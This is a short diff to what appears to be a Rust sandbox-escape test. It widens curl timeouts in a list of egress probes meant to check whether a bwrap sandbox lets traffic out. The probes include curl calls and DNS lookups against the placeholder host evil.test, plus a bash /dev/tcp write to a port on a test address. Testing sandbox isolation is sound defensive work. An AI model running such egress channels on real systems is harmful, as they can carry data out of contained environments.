@@ -14,8 +14,8 @@ const SANDBOX: [&str; 7] = ["bwrap", "--dev-bind", "/", "/", "--unshare-pid", "-
 
 /// Ways out, each with the bytes that tell that it was open.
 const WAYS: [(&str, &str); 6] = [
-    ("curl -sk --max-time 3 https://https.evil.test/", "https.evil.test"),
-    ("curl -s --max-time 3 http://evil.test/plain", "/plain"),
+    ("curl -sk --max-time 20 https://https.evil.test/", "https.evil.test"),
+    ("curl -s --max-time 20 http://evil.test/plain", "/plain"),
     ("dig +time=1 +tries=1 label.evil.test", "label"),
     ("dig +tcp +time=1 +tries=1 tcp-label.evil.test @198.51.100.53", "tcp-label"),
     ("bash -c 'echo literal >/dev/tcp/198.51.100.66/4444'", "literal"),
